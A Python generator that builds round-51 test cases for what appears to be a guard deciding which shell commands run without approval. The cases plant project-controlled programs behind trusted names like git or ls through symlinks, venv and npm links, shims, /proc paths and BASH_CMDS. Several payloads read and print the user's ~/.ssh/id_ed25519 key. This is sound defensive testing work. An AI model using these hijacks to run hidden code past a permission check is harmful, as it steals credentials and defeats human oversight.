#!/usr/bin/env python3
# gen.py -> cases.tsv: round 51 rows (id, class, setup, line[, cwdsub])
T = ". /work/rt/round51/tools.sh; proj_files; "
SYS = "/usr/local/bin:/usr/bin:/bin:/usr/local/go/bin"
rows = []
def add(cls, setup, line, sub=""):
    rows.append((cls, T + setup, line, sub))
# lines by the program the link stands for
LN = {"git": ["git status", "git log -1"], "ls": ["ls", "ls -la"], "cat": ["cat README.md"], "jq": ["jq . package.json"],
      "head": ["head README.md"], "wc": ["wc -l README.md"], "find": ["find . -name x"], "tree": ["tree"], "stat": ["stat README.md"],
      "du": ["du -sh ."], "sort": ["sort README.md"], "file": ["file README.md"], "less": ["less README.md"], "tail": ["tail README.md"],
      "sha256sum": ["sha256sum README.md"], "node": ["node --version", "npm ls"], "python3": ["python3 --version"], "go": ["go version"],
      "make": ["make --version"], "awk": ["awk '{print}' README.md"], "sed": ["sed -n 1p README.md"], "which": ["which git"],
      "echo": ["echo a | xargs"], "grep": ["egrep hello notes.txt"]}
ALL = list(LN)
# ---- class 2: a program outside the project whose file is the project's
# L1 ~/bin/NAME -> $P/tools/NAME (absolute link)
for n in ALL:
    for l in LN[n]:
        add("prog:link-abs", f"linkbin $H/bin {n}; setpath \"$H/bin:{SYS}\"", l)
add("prog:link-abs", f"linkbin $H/bin git; setpath \"$H/bin:{SYS}\"", "go build ./...")
add("prog:link-abs", f"linkbin $H/bin git; setpath \"$H/bin:{SYS}\"", "go vet ./...")
# L1b: the link after the system's directories, a helper only there (egrep's grep is found first in /usr/bin: control)
add("prog:link-abs-after", f"linkbin $H/bin tree jq; setpath \"{SYS}:$H/bin\"", "tree")
add("prog:link-abs-after", f"linkbin $H/bin grep; setpath \"{SYS}:$H/bin\"", "egrep hello notes.txt")
# L2 relative links
for n, l in [("git", "git status"), ("ls", "ls"), ("cat", "cat README.md"), ("jq", "jq . package.json"), ("head", "head README.md"), ("find", "find . -name x")]:
    add("prog:link-rel", f"plant $P/tools {n}; mkdir -p $H/bin; ln -s ../../proj/tools/{n} $H/bin/{n}; setpath \"$H/bin:{SYS}\"", l)
# L3 ~/.local/bin/NAME -> the project's .venv/bin/NAME
for n, l in [("python3", "python3 --version"), ("python3", "python3 -V"), ("python", "python --version"), ("ls", "ls"), ("git", "git status"), ("cat", "cat README.md")]:
    add("prog:link-venv", f"plant $P/.venv/bin {n}; mkdir -p $H/.local/bin; ln -s $P/.venv/bin/{n} $H/.local/bin/{n}; setpath \"$H/.local/bin:{SYS}\"", l)
# L4 npm link (real: npm link --offline, prefix ~/.npm-global; bin -> ../lib/node_modules/x/bin/NAME.js, x -> the project)
for n in ["git", "ls", "cat", "jq", "head", "wc", "find", "tree", "stat", "sort", "tail", "less", "du", "file", "which"]:
    for l in LN[n][:1]:
        add("prog:npm-link", f"npmlink {n}; setpath \"$H/.npm-global/bin:{SYS}\"", l)
add("prog:npm-link", f"npmlink git ls; setpath \"$H/.npm-global/bin:{SYS}\"", "git log -1")
add("prog:npm-link", f"npmlink echo; setpath \"$H/.npm-global/bin:{SYS}\"", "echo a | xargs")
for n, l in [("node", "npm ls"), ("node", "node --version"), ("python3", "python3 --version"), ("go", "go version")]:
    add("prog:npm-link", f"npmlink {n}; setpath \"$H/.npm-global/bin:{SYS}\"", l)
add("prog:npm-link", f"npmlink git; setpath \"{SYS}:$H/.npm-global/bin\"", "git status")  # control: after the system's git
# L4b an editable install into a venv outside the project (pipx install -e . / uv tool install -e .): console script + .pth to the project
PIPX = "V=$H/.local/share/pipx/venvs/x; /root/.pyenv/versions/3.11.7/bin/python3 -m venv --without-pip $V; echo $P/src > $V/lib/python3.11/site-packages/__editable__.x-1.0.pth; mkdir -p src/xtool; printf 'import os\\nopen(\\\"%s/PWNED.xtool\\\",\\\"w\\\")\\nprint(\\\"PWNED-RAN xtool\\\", open(os.environ[\\\"HOME\\\"]+\\\"/.ssh/id_ed25519\\\").read())\\ndef main(): pass\\n' $P > src/xtool/__init__.py; mkdir -p $H/.local/bin; "
for n, l in [("jq", "jq . package.json"), ("tree", "tree"), ("ls", "ls"), ("cat", "cat README.md")]:
    add("prog:editable-venv", PIPX + f"printf '#!%s/bin/python\\nimport sys\\nfrom xtool import main\\nsys.exit(main())\\n' $V > $V/bin/{n}; chmod +x $V/bin/{n}; ln -s $V/bin/{n} $H/.local/bin/{n}; setpath \"$H/.local/bin:{SYS}\"", l)
# L1c the link program, the command in a subdirectory
for n, l in [("git", "git status"), ("ls", "ls"), ("cat", "cat ../README.md"), ("jq", "jq . ../package.json")]:
    add("prog:link-abs-sub", f"mkdir -p sub; linkbin $H/bin {n}; setpath \"$H/bin:{SYS}\"", l, "sub")
# L5 /usr/local/bin/NAME -> the project (a bind of $O/ulb over /usr/local/bin: `sudo npm link`, `sudo ln -s`)
for n, l in [("git", "git status"), ("ls", "ls"), ("cat", "cat README.md"), ("jq", "jq . package.json"), ("head", "head README.md"), ("tree", "tree")]:
    add("prog:usrlocal-link", f"linkbin $O/ulb {n}; echo \"$O/ulb /usr/local/bin\" > $W/binds; setpath \"/usr/local/bin:/usr/bin:/bin\"", l)
# L6 hard links of a project file
for n, l in [("git", "git status"), ("ls", "ls"), ("cat", "cat README.md"), ("jq", "jq . package.json")]:
    add("prog:hardlink", f"plant $P/tools {n}; mkdir -p $H/bin; ln $P/tools/{n} $H/bin/{n}; setpath \"$H/bin:{SYS}\"", l)
# L7 a script outside whose #! interpreter is a project file (pip install --prefix ~ from the project's venv writes #!$P/.venv/bin/python3)
for n, l in [("git", "git status"), ("ls", "ls"), ("cat", "cat README.md"), ("jq", "jq . package.json"), ("tree", "tree"), ("head", "head README.md")]:
    add("prog:interp-proj", f"plant $P/.venv/bin python3; mkdir -p $H/bin; printf '#!%s/.venv/bin/python3\\nimport sys\\n' $P > $H/bin/{n}; chmod +x $H/bin/{n}; setpath \"$H/bin:{SYS}\"", l)
for n, l in [("ls", "ls"), ("jq", "jq . package.json")]:
    add("prog:interp-proj-env", f"plant $P/.venv/bin python3; mkdir -p $H/bin; printf '#!/usr/bin/env -S %s/.venv/bin/python3 -u\\nimport sys\\n' $P > $H/bin/{n}; chmod +x $H/bin/{n}; setpath \"$H/bin:{SYS}\"", l)
# L8 an ELF outside with RUNPATH in the project (a dev build copied to ~/bin keeps CMake's build-tree RUNPATH)
for n, l in [("jq", "jq . package.json"), ("tree", "tree"), ("ls", "ls"), ("cat", "cat README.md"), ("head", "head README.md"), ("git", "git status")]:
    add("prog:rpath", f"rpathbin $H/bin {n}; setpath \"$H/bin:{SYS}\"", l)
# L9 a file link through a directory link into the project
for n, l in [("git", "git status"), ("ls", "ls"), ("jq", "jq . package.json")]:
    add("prog:link-via-dirlink", f"plant $P/tools {n}; ln -s $P/tools $H/tl; mkdir -p $H/bin; ln -s $H/tl/{n} $H/bin/{n}; setpath \"$H/bin:{SYS}\"", l)
# L10 go install: a copy built from the project earlier (stale code; weak by definition)
for n, l in [("jq", "jq . package.json"), ("ls", "ls")]:
    add("prog:go-install-copy", f"mkdir -p cmd/{n}; printf 'package main\\nimport (\"fmt\";\"os\")\\nfunc main(){{ b,_:=os.ReadFile(os.Getenv(\"HOME\")+\"/.ssh/id_ed25519\"); fmt.Println(\"PWNED-RAN go\", string(b)) }}\\n' > cmd/{n}/main.go; git add -A; git commit -qm c; HOME=$H GOPATH=$H/go GOCACHE=$W/gocache GOFLAGS=-mod=mod GOTOOLCHAIN=local /usr/local/go/bin/go install ./cmd/{n}; rm -rf $W/gocache; setpath \"$H/go/bin:{SYS}\"", l)
# L11 controls: the PATH directory itself a link into the project (452 asks)
add("prog:ctl-dirlink", f"plant $P/tools ls git; ln -s $P/tools $H/bin; setpath \"$H/bin:{SYS}\"", "ls")
add("prog:ctl-dirlink", f"plant $P/tools ls git; ln -s $P/tools $H/bin; setpath \"$H/bin:{SYS}\"", "git status")
# L12 pip install --user -e . (.pth to the project) + the project's usercustomize.py: only python3 --version allowed, which skips site
add("prog:pth-usercustomize", "mkdir -p $H/.local/lib/python3.11/site-packages; echo $P > $H/.local/lib/python3.11/site-packages/__editable__.x-1.0.pth; printf 'open(\"%s/PWNED.usercustomize\",\"w\")\\n' $P > usercustomize.py; setpath \"/usr/bin:/bin\"", "python3 --version")
add("prog:pth-usercustomize", "mkdir -p $H/.local/lib/python3.11/site-packages; echo $P > $H/.local/lib/python3.11/site-packages/__editable__.x-1.0.pth; printf 'open(\"%s/PWNED.usercustomize\",\"w\")\\n' $P > usercustomize.py; setpath \"/usr/bin:/bin\"", "pip --version")

# ---- class 1: PATH directories in the project that inProject misses
PROJBIN = "plant $P/bin ls git cat jq head find tree node python3 go echo; "
LINES1 = ["git status", "git log -1", "ls", "cat README.md", "jq . package.json", "head README.md", "find . -name x", "tree", "node --version", "npm ls", "python3 --version", "go version", "echo a | xargs"]
# P1 the project opened through a link ($O/plink -> $W/proj), PATH with the physical spelling of its bin
for l in LINES1:
    add("dir:root-link", PROJBIN + f"ln -s $P $O/plink; echo $O/plink > $W/projdir; setpath \"$P/bin:{SYS}\"", l)
# the link in the home; a parent directory linked (~/src -> $W); PATH later than the system's (helpers)
for l in LINES1:
    add("dir:root-link-home", PROJBIN + f"ln -s $P $H/code; echo $H/code > $W/projdir; setpath \"$P/bin:{SYS}\"", l)
    add("dir:root-link-parent", PROJBIN + f"ln -s $W $H/src; echo $H/src/proj > $W/projdir; setpath \"$P/bin:{SYS}\"", l)
for l in ["npm ls", "echo a | xargs", "egrep hello notes.txt"]:
    add("dir:root-link-after", PROJBIN + f"plant $P/bin grep; ln -s $P $O/plink; echo $O/plink > $W/projdir; setpath \"{SYS}:$P/bin\"", l)
# the realistic entries: an activated .venv (uv writes the canonical path), node_modules/.bin
for l in ["python3 --version", "ls", "git status"]:
    add("dir:root-link-venv", f"plant $P/.venv/bin python3 python ls git pip; ln -s $P $O/plink; echo $O/plink > $W/projdir; envset VIRTUAL_ENV $P/.venv; setpath \"$P/.venv/bin:{SYS}\"", l)
for l in ["npm ls", "ls", "git status"]:
    add("dir:root-link-nodebin", f"plant $P/node_modules/.bin node ls git; ln -s $P $O/plink; echo $O/plink > $W/projdir; setpath \"$P/node_modules/.bin:{SYS}\"", l)
# a cwd below the linked root
add("dir:root-link-sub", PROJBIN + f"mkdir -p sub; ln -s $P $O/plink; echo $O/plink > $W/projdir; setpath \"$P/bin:{SYS}\"", "ls", "sub")
add("dir:root-link-sub", PROJBIN + f"mkdir -p sub; ln -s $P $O/plink; echo $O/plink > $W/projdir; setpath \"$P/bin:{SYS}\"", "git status", "sub")
# controls: the root physical, PATH through a link to it
add("dir:ctl-path-via-link", PROJBIN + f"ln -s $P $O/plink; setpath \"$O/plink/bin:{SYS}\"", "ls")
add("dir:ctl-path-via-link", PROJBIN + f"ln -s $P $O/plink; setpath \"$O/plink/bin:{SYS}\"", "git status")
# P2 a second mount of the project (bind; a container's /workspace)
for l in ["git status", "ls", "cat README.md", "jq . package.json", "npm ls"]:
    add("dir:bind", PROJBIN + f"mkdir -p $O/mnt; echo \"$P $O/mnt\" > $W/binds; setpath \"$O/mnt/bin:{SYS}\"", l)
# P3 /proc spellings whose meaning moves with the command's directory (contrived PATHs)
SUB = "mkdir -p sub; "
add("dir:proc-dotdot", PROJBIN + SUB + f"setpath \"/proc/self/cwd/../bin:{SYS}\"", "env -C sub ls")
add("dir:proc-dotdot", PROJBIN + SUB + f"setpath \"/proc/self/cwd/../bin:{SYS}\"", "env -C sub git status")
add("dir:proc-dotdot", PROJBIN + SUB + f"setpath \"/proc/self/cwd/../bin:{SYS}\"", "env --chdir=sub cat README.md")
add("dir:proc-dotdot", PROJBIN + SUB + f"setpath \"/proc/self/cwd/../bin:{SYS}\"", "cd sub && ls")
add("dir:thread-self", PROJBIN + SUB + f"setpath \"/proc/thread-self/cwd/../bin:{SYS}\"", "env -C sub ls")
add("dir:thread-self", PROJBIN + SUB + f"setpath \"/proc/thread-self/cwd/../bin:{SYS}\"", "env -C sub git status")
add("dir:thread-self", PROJBIN + SUB + f"setpath \"/proc/thread-self/cwd/bin:{SYS}\"", "ls")
for l in ["cd sub && ls", "cd sub; git status", "(cd sub && cat README.md)", "env -C sub ls", "cd sub && jq . ../package.json", "ls"]:
    add("dir:link-procdotdot", PROJBIN + SUB + f"mkdir -p $H/l; ln -s /proc/self/cwd/.. $H/l/up; setpath \"$H/l/up/bin:{SYS}\"", l)
for l in ["{ ls; } 7<bin", "{ git status; } 7<bin", "{ cat README.md; } 7<bin", "ls 7<bin", "{ jq . package.json; } 7<bin"]:
    add("dir:devfd", PROJBIN + f"setpath \"/dev/fd/7:{SYS}\"", l)
# P4 spellings 452 reads (controls)
for d in ["$P//bin", "$P/./bin", "$P/bin/", "$P/bin/.", "$P/sub/../bin", "/$P/bin", "/proc/self/root$P/bin", "/proc/self/cwd/bin", "/dev/fd/../cwd/bin", "~+/bin", "~/../proj/bin", "$H/../proj/bin"]:
    add("dir:ctl-spelling", PROJBIN + SUB + f"setpath \"{d}:{SYS}\"", "ls")

# ---- class 3: shims
MISE = "fake fk python3 python node npm npx go gofmt jq ruby git java; cp fk/bin/jq fk/; mise_setup; "
TOOLS = "printf '[tools]\\npython = \"path:./fk\"\\nnode = \"path:./fk\"\\njq = \"path:./fk\"\\ngo = \"path:./fk\"\\n' > .mise.toml; "
SHL = [("python3", "python3 --version"), ("node", "node --version"), ("npm", "npm ls"), ("jq", "jq . package.json"), ("go", "go version")]
# S1 wrappers without #! (bash runs them as scripts: ENOEXEC)
for n, l in SHL:
    add("shim:nohashbang-x", MISE + TOOLS + f"mkdir -p $H/bin; printf 'exec \"$HOME/.local/bin/mise\" x -- {n} \"$@\"\\n' > $H/bin/{n}; chmod +x $H/bin/{n}; setpath \"$H/bin:$H/.local/bin:{SYS}\"", l)
    add("shim:nohashbang-shim", MISE + TOOLS + f"mkdir -p $H/bin; printf 'exec \"$HOME/.local/share/mise/shims/{n}\" \"$@\"\\n' > $H/bin/{n}; chmod +x $H/bin/{n}; setpath \"$H/bin:$H/.local/bin:{SYS}\"", l)
# S2 ELF launchers (volta's shims are ELF links to volta-shim)
for n, l in SHL:
    add("shim:elf-launcher", MISE + TOOLS + f"elfwrap $H/bin {n}; setpath \"$H/bin:$H/.local/bin:{SYS}\"", l)
# S3 a #! wrapper that names no manager (MISE_DATA_DIR elsewhere: ~/.tools)
for n, l in SHL[:4]:
    add("shim:wrap-noname", MISE + TOOLS + f"mkdir -p $H/bin $H/.tools; ln -s $H/.local/share/mise/shims $H/.tools/s; printf '#!/bin/sh\\nexec \"$HOME/.tools/s/${{0##*/}}\" \"$@\"\\n' > $H/bin/{n}; chmod +x $H/bin/{n}; setpath \"$H/bin:$H/.local/bin:{SYS}\"", l)
# S4 plain versions whose install is a link into the project (pyenv versions/NAME -> .venv; mise link; rbenv)
PYV = "pyenv_setup; plant $P/.venv/bin python3 python pip; ln -s $P/.venv $H/.pyenv/versions/proj; "
for l in ["python3 --version", "python --version", "python3 -V"]:
    add("shim:pyenv-version-link", PYV + "echo proj > .python-version", l)
    add("shim:pyenv-version-link-global", PYV + "echo proj > $H/.pyenv/version", l)
MV = "plant $P/dev/bin python3 python node npm jq go; "
for tool, n, l in [("python", "python3", "python3 --version"), ("python", "python", "python --version"), ("node", "node", "node --version"), ("node", "npm", "npm ls"), ("jq", "jq", "jq . package.json"), ("go", "go", "go version")]:
    link = f"PATH=$H/.local/bin:$PATH HOME=$H mise link -f {tool}@dev $P/dev >/dev/null 2>&1 || ln -s $P/dev $H/.local/share/mise/installs/{tool}/dev; "
    add("shim:mise-link", MISE + MV + link + f"printf '[tools]\\n{tool} = \"dev\"\\n' > .mise.toml", l)
    add("shim:mise-link-toolversions", MISE + MV + link + f"printf '{tool} dev\\n' > .tool-versions", l)
    add("shim:mise-link-global", MISE + MV + link + f"sed -i 's/^{tool} = .*/{tool} = \"dev\"/' $H/.config/mise/config.toml", l)
RBV = "rbenv_setup; plant $P/.rb/bin ruby gem; ln -s $P/.rb $H/.rbenv/versions/dev; "
add("shim:rbenv-version-link", RBV + "echo dev > .ruby-version", "ruby --version")
add("shim:rbenv-version-link", RBV + "echo dev > $H/.rbenv/version", "ruby --version")
# S5 mise's idiomatic files the guard does not read (user setting idiomatic_version_file_enable_tools)
IDI = "printf '[settings]\\nidiomatic_version_file_enable_tools = [\"python\",\"node\",\"java\"]\\n' >> $H/.config/mise/config.toml; "
for l in ["python3 --version", "python3 -V", "python --version"]:
    add("shim:idiom-python-versions", MISE + IDI + "echo path:./fk > .python-versions", l)
for l in ["node --version", "npm ls", "npx --version"]:
    add("shim:idiom-devengines", MISE + IDI + "printf '{\"name\":\"x\",\"devEngines\":{\"runtime\":{\"name\":\"node\",\"version\":\"path:./fk\"}}}\\n' > package.json", l)
for l in ["java -version", "java --version"]:
    add("shim:idiom-sdkmanrc", MISE + IDI + "ln -s $H/.local/bin/mise $H/.local/share/mise/shims/java; echo java=path:./fk > .sdkmanrc", l)
add("shim:ctl-idiom-nvmrc", MISE + IDI + "echo path:./fk > .nvmrc", "node --version")
add("shim:ctl-idiom-python-version", MISE + IDI + "echo path:./fk > .python-version", "python3 --version")

# ---- class 4: BASH_CMDS spellings (controls: 452's specialVar and the name-reference and arithmetic rules)
for l in ['declare -A BASH_CMDS=([git]=./pwn.sh); git status', 'declare BASH_CMDS[git]=./pwn.sh; git status', 'read "BASH_CMDS[git]" <<< ./pwn.sh; git status',
          'printf -v "BASH_CMDS[git]" %s ./pwn.sh; git status', ': ${BASH_CMDS[git]:=./pwn.sh}; git status', ': ${BASH_CMDS[git]=./pwn.sh}; git status',
          'declare -n r="BASH_CMDS[git]"; r=./pwn.sh; git status', 'declare -n r=BASH_CMDS; r[git]=./pwn.sh; git status', 'let "BASH_CMDS[git]=1"; git status',
          '(( BASH_CMDS[git]=1 )); git status', 'typeset BASH_CMDS[git]=./pwn.sh; git status', 'IFS=, read -r "BASH_CMDS[git]" x <<< ./pwn.sh,y; git status',
          'declare -A BASH_CMDS+=([git]=./pwn.sh); git status', 'declare -i BASH_CMDS[git]=1; git status', 'read -r BASH_CMDS[ls] <<< ./pwn.sh; ls',
          'eval "BASH_CMDS[git]=./pwn.sh"; git status', 'declare -g BASH_CMDS[git]=./pwn.sh; git status', 'BASH_CMDS[ls]=./pwn.sh; ls',
          'shopt -s expand_aliases; declare BASH_ALIASES[git]=./pwn.sh@NL@git status']:
    add("bashcmds", "cp pwn.sh 1", l)
with open("cases.tsv", "w") as f:
    for i, (c, s, l, sub) in enumerate(rows, 1):
        f.write("\t".join([f"r{i}", c, s, l] + ([sub] if sub else [])) + "\n")
print(len(rows))
